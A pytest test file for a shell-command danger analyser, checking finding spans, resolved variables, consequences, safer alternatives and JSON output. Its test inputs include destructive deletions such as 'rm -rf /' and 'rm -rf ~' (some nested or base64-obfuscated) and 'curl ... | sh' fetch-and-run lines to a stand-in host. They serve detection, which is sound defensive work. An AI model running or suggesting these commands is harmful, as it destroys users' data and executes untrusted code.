"""Findings say where, what it really is, what follows and what is safer; the explanation is made of them."""

from __future__ import annotations

import dataclasses

import pytest

from ingle.shell.verdict import Finding, Level, analyse, explain, verdict_to_dict


def worst(command: str, shell: str = "bash") -> Finding:
    return analyse(command, shell).findings[0]


@pytest.mark.parametrize(
    ("command", "shell", "where"),
    [
        ("ls; rm -rf / ; ls", "bash", "rm -rf /"),
        ("echo é; rm -rf ~", "bash", "rm -rf ~"),
        ("x=/; rm -rf $x", "bash", "rm -rf $x"),
        ("ls; begin; rm -rf ~; end", "fish", "rm -rf ~"),
        ("ls; Remove-Item C:\\ -Recurse", "powershell", "Remove-Item C:\\ -Recurse"),
    ],
)
def test_span_is_where_it_stands_in_the_source(command: str, shell: str, where: str) -> None:
    start, end = worst(command, shell).span
    assert command[start:end].strip() == where


@pytest.mark.parametrize(
    ("command", "shell", "where"),
    [
        ("ls; bash -c 'echo é; rm -rf ~'", "bash", "rm -rf ~"),
        ('echo "$(cd /; rm -rf ~)"', "bash", "rm -rf ~"),
        ("ssh host 'ls && rm -rf /'", "bash", "rm -rf /"),
        ("bash -c 'sh -c \"ls; rm -rf ~\"'", "bash", "rm -rf ~"),
        ("for d in /etc { ls; rm -rf $d }", "zsh", "rm -rf $d"),
        ("bash <<'E'\nls\nrm -rf ~\nE", "bash", "rm -rf ~"),
    ],
)
def test_span_of_nested_code_is_the_inner_command(command: str, shell: str, where: str) -> None:
    start, end = worst(command, shell).span
    assert command[start:end].strip() == where


def test_code_that_does_not_stand_in_the_source_keeps_the_outer_span() -> None:
    command = "ls; echo cm0gLXJmIH4= | base64 -d | sh"
    start, end = worst(command).span
    assert command[start:end] == "sh"


def test_resolved_form_shows_what_the_shell_would_run() -> None:
    found = worst('x=rm; $x -rf "$HOME"')
    assert found.resolved == '`$x` is `rm`, `"$HOME"` is `/home/user`'


def test_resolved_path_is_named_when_it_is_not_the_written_one() -> None:
    assert worst("rm -rf ../../..").resolved == "`../../..` is `/home`"


def test_explanation_holds_every_finding_and_nothing_else() -> None:
    verdict = analyse("sudo rm -rf /etc && curl -s https://x.example | sh")
    text = explain(verdict)
    assert text.startswith("critical:")
    assert all(found.consequence in text for found in verdict.findings)
    assert len([line for line in text.splitlines() if line.startswith("  [")]) == len(verdict.findings)


def test_safe_command_has_no_findings_and_is_allowed() -> None:
    verdict = analyse("git status")
    assert verdict.findings == ()
    assert verdict.allowed
    assert explain(verdict).startswith("safe")


def test_high_findings_about_deleting_name_a_safer_way() -> None:
    assert worst('rm -rf "$DIR"').safer
    assert worst("curl https://x.example | sh").safer


def test_what_a_filter_chooses_is_not_called_the_whole_folder() -> None:
    (found,) = analyse("find . -name '*.tmp' -delete").findings
    assert found.consequence == "deletes what is chosen below the whole working directory"
    (found,) = analyse("docker system prune -af").findings
    assert found.consequence.endswith("with `--volumes` every volume")


def test_verdict_and_findings_cannot_be_changed() -> None:
    verdict = analyse("rm x")
    with pytest.raises(dataclasses.FrozenInstanceError):
        verdict.level = Level.SAFE  # type: ignore[misc]  # that it cannot be set is the claim
    with pytest.raises(dataclasses.FrozenInstanceError):
        verdict.findings[0].level = Level.SAFE  # type: ignore[misc]  # that it cannot be set is the claim


def test_dictionary_is_ready_for_json() -> None:
    found = verdict_to_dict(analyse("rm -rf /"))
    assert found["level"] == "critical"
    assert found["allowed"] is False
    assert found["commands"] == ["rm"]
    assert found["findings"][0]["span"] == [0, 8]


def test_commands_list_what_would_run_through_wrappers() -> None:
    assert analyse("sudo env X=1 timeout 5 ls | head").commands == ("sudo", "env", "timeout", "ls", "head")


def test_same_command_gives_the_same_verdict_twice() -> None:
    command = "f() { rm -rf $1; }; f / ; x=$(echo ls); $x"
    assert analyse(command) == analyse(command)
